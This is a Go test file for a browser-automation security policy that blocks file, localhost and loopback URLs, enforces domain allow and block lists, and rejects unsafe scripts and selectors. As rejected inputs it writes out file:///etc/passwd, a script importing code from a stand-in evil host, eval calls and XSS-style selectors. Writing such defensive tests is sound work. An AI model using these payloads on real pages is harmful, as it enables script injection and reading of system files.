package browser

import (
	"errors"
	"strings"
	"testing"

	"github.com/rs/zerolog"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPolicy_CheckURL(t *testing.T) {
	tests := []struct {
		name     string
		config   PolicyConfig
		url      string
		wantCode string
	}{
		{name: "valid https URL", url: "https://example.com"},
		{name: "file URL blocked", url: "file:///etc/passwd", wantCode: ErrCodeSecurity},
		{name: "file URL allowed", config: PolicyConfig{AllowFileURLs: true}, url: "file:///tmp/test.html"},
		{name: "localhost blocked", url: "http://localhost:8080", wantCode: ErrCodeSecurity},
		{name: "localhost subdomain blocked", url: "http://app.localhost", wantCode: ErrCodeSecurity},
		{name: "localhost allowed", config: PolicyConfig{AllowLocalhostURLs: true}, url: "http://localhost:8080"},
		{name: "127.0.0.1 blocked", url: "http://127.0.0.1:8080", wantCode: ErrCodeSecurity},
		{name: "other loopback blocked", url: "http://127.1.2.3", wantCode: ErrCodeSecurity},
		{name: "ipv6 loopback blocked", url: "http://[::1]:3000", wantCode: ErrCodeSecurity},
		{name: "unspecified address blocked", url: "http://0.0.0.0", wantCode: ErrCodeSecurity},
		{name: "private address allowed", url: "http://192.168.1.1"},
		{name: "javascript scheme blocked", url: "javascript:alert(1)", wantCode: ErrCodeSecurity},
		{name: "domain in allowed list", config: PolicyConfig{AllowedDomains: []string{"example.com"}}, url: "https://example.com/page"},
		{name: "domain not in allowed list", config: PolicyConfig{AllowedDomains: []string{"example.com"}}, url: "https://other.com/page", wantCode: ErrCodeSecurity},
		{name: "domain in blocked list", config: PolicyConfig{BlockedDomains: []string{"blocked.com"}}, url: "https://blocked.com/page", wantCode: ErrCodeSecurity},
		{name: "blocked list is case-insensitive", config: PolicyConfig{BlockedDomains: []string{"Blocked.COM"}}, url: "https://BLOCKED.com", wantCode: ErrCodeSecurity},
		{name: "wildcard allowed domain", config: PolicyConfig{AllowedDomains: []string{"*.example.com"}}, url: "https://sub.example.com/page"},
		{name: "invalid URL format", url: "://invalid", wantCode: ErrCodeValidation},
		{name: "relative URL", url: "/just/a/path", wantCode: ErrCodeValidation},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := NewPolicy(tt.config, zerolog.Nop()).CheckURL(tt.url)
			if tt.wantCode == "" {
				assert.NoError(t, err)
				return
			}
			var be *Error
			require.True(t, errors.As(err, &be), "got %v", err)
			assert.Equal(t, tt.wantCode, be.Code)
		})
	}
}

func TestMatchDomain(t *testing.T) {
	tests := []struct {
		host     string
		pattern  string
		expected bool
	}{
		{"example.com", "example.com", true},
		{"sub.example.com", "*.example.com", true},
		{"example.com", "*.example.com", true},
		{"sub.example.com", ".example.com", true},
		{"example.com", ".example.com", true},
		{"badexample.com", "*.example.com", false},
		{"other.com", "example.com", false},
		{"other.com", "*.example.com", false},
	}

	for _, tt := range tests {
		t.Run(tt.host+"_"+tt.pattern, func(t *testing.T) {
			assert.Equal(t, tt.expected, matchDomain(tt.host, tt.pattern))
		})
	}
}

func TestPolicy_CheckScript(t *testing.T) {
	p := NewPolicy(PolicyConfig{}, zerolog.Nop())

	assert.NoError(t, p.CheckScript(`() => document.title`))
	assert.NoError(t, p.CheckScript(`() => Array.from(document.images).length`))

	for _, script := range []string{
		"",
		"   ",
		`() => eval("1+1")`,
		`() => new Function("return 1")()`,
		`() => import("https://evil.test/x.js")`,
		`() => { location = "javascript:alert(1)" }`,
		strings.Repeat("a", maxScriptBytes+1),
	} {
		assert.Error(t, p.CheckScript(script), "script %.40q", script)
	}
}

func TestPolicy_CheckSelector(t *testing.T) {
	p := NewPolicy(PolicyConfig{}, zerolog.Nop())

	tests := []struct {
		selector string
		valid    bool
	}{
		{"#submit", true},
		{"form input[name='q']", true},
		{"", false},
		{"<script>alert(1)</script>", false},
		{"img[onerror=alert(1)]", false},
		{"a[href='javascript:void(0)']", false},
	}

	for _, tt := range tests {
		t.Run(tt.selector, func(t *testing.T) {
			err := p.CheckSelector(tt.selector)
			if tt.valid {
				assert.NoError(t, err)
			} else {
				assert.Error(t, err)
			}
		})
	}
}

func TestError_Unwrap(t *testing.T) {
	cause := errors.New("net::ERR_NAME_NOT_RESOLVED")
	err := newError(ErrCodeNavigation, cause, "Failed to navigate to %s", "https://nope.test")

	assert.ErrorIs(t, err, cause)
	assert.Equal(t, "Failed to navigate to https://nope.test: net::ERR_NAME_NOT_RESOLVED", err.Error())
}
